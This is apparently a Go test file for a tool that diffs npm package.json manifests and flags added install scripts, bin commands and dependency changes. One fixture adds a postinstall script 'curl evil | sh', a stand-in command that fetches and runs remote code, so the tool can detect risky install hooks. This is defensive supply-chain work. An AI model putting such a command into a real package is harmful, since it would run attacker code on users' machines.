package tardiff_test

import (
	"fmt"
	"strings"
	"testing"

	"latchkey/internal/tardiff"
)

func describe(changes []tardiff.Change) string {
	var out []string
	for _, c := range changes {
		s := fmt.Sprintf("%s %s.%s %s→%s", c.Kind, c.Group, c.Name, c.Before, c.After)
		if c.Install {
			s += "!"
		}
		out = append(out, s)
	}
	return strings.Join(out, "; ")
}

func TestManifestsAreCompared(t *testing.T) {
	const name = `"name":"@ann/widget",`
	for _, row := range []struct {
		what, from, to               string
		scripts, bin, deps, other    string
		gypBefore, gypAfter, strange bool
	}{
		{what: "the same, written otherwise", from: `{"a":[1, 2],"b":{"x":1,"y":2}}`, to: `{ "b":{"y":2,"x":1}, "a":[1,2] }`},
		{what: "version and name say nothing", from: `{"version":"1.0.0"}`, to: `{"version":"2.0.0"}`},
		{
			what: "scripts", from: `{"scripts":{"test":"a","build":"b"}}`, to: `{"scripts":{"test":"A","postinstall":"curl evil | sh"}}`,
			scripts: "added scripts.postinstall →curl evil | sh!; removed scripts.build b→; changed scripts.test a→A",
		},
		{what: "install script gone", from: `{"scripts":{"preinstall":"x"}}`, to: `{}`, scripts: "removed scripts.preinstall x→!"},
		{what: "binding.gyp", from: `{}`, to: `{}`, gypAfter: true, scripts: "added scripts.install →node-gyp rebuild (for binding.gyp)!"},
		{what: "binding.gyp with a script", from: `{}`, to: `{"scripts":{"install":"true"}}`, gypAfter: true, scripts: "added scripts.install →true!"},
		{what: "binding.gyp on both", from: `{}`, to: `{}`, gypBefore: true, gypAfter: true},
		{
			what: "dependencies", from: `{"dependencies":{"a":"1","b":"1"},"devDependencies":{"d":"1"}}`, to: `{"dependencies":{"a":"2","c":"1"},"peerDependencies":{"d":"1"},"bundleDependencies":["c"]}`,
			deps: "changed dependencies.a 1→2; removed dependencies.b 1→; added dependencies.c →1; added peerDependencies.d →1; removed devDependencies.d 1→; added bundleDependencies.c →true",
		},
		{what: "a command by the package's name", from: `{` + name + `"bin":"a.js"}`, to: `{` + name + `"bin":{"widget":"a.js"}}`},
		{what: "another command", from: `{` + name + `"bin":"a.js"}`, to: `{` + name + `"bin":{"npm":"a.js"}}`, bin: "added bin.npm →a.js; removed bin.widget a.js→"},
		{what: "other members", from: `{"license":"MIT","main":"a"}`, to: `{"license":"GPL-3.0","exports":{}}`, other: "exports license main"},
		{what: "values of odd kinds", from: `{"scripts":{"test":1},"bin":null,"dependencies":"x"}`, to: `{"scripts":{"test":[2]},"bin":7,"dependencies":[[]]}`, scripts: "changed scripts.test 1→[2]", deps: "added dependencies.[] →true"},
		{what: "byte order mark", from: "\ufeff{}", to: `{}`},
		{what: "not JSON", from: `{`, to: `{}`, strange: true},
		{what: "not an object", from: `[]`, to: `{}`, strange: true},
		{what: "far too large", from: `{}`, to: `{"a":"` + strings.Repeat("a", 1<<20) + `"}`, strange: true},
	} {
		t.Run(row.what, func(t *testing.T) {
			from, to := files{"package.json": row.from}, files{"package.json": row.to}
			if row.gypBefore {
				from["binding.gyp"] = "{}"
			}
			if row.gypAfter {
				to["binding.gyp"] = "{}"
			}
			m := compare(t, from, to, "").Manifest
			if describe(m.Scripts) != row.scripts || describe(m.Bin) != row.bin || describe(m.Dependencies) != row.deps ||
				strings.Join(m.Other, " ") != row.other || m.Unreadable != row.strange || m.More != 0 {
				t.Errorf("scripts %s\nbin %s\ndependencies %s\nother %v\nunreadable %v, %d more", describe(m.Scripts), describe(m.Bin), describe(m.Dependencies), m.Other, m.Unreadable, m.More)
			}
		})
	}
	if !compare(t, files{"a": "x"}, files{"package.json": "{}"}, "").Manifest.Unreadable {
		t.Error("a package without a package.json can be read")
	}
}

func TestManyChangesAreBounded(t *testing.T) {
	var deps, other strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&deps, `"dep%d":"%s",`, i, strings.Repeat("x", 100))
		fmt.Fprintf(&other, `"other%d":1,`, i)
	}
	m := compare(t, files{"package.json": "{}"}, files{"package.json": `{"dependencies":{` + deps.String() + `"a":"` + strings.Repeat("é", 1000) + `"},` + other.String() + `"z":1}`}, "").Manifest
	if len(m.Dependencies) != 200 || m.More != 4801 || len(m.Other) != 200 {
		t.Errorf("%d dependencies, %d more, %d others", len(m.Dependencies), m.More, len(m.Other))
	}
	if c := m.Dependencies[0]; c.Name != "a" || len(c.After) > 310 || !strings.HasSuffix(c.After, "é…") {
		t.Errorf("%+v", c)
	}
}
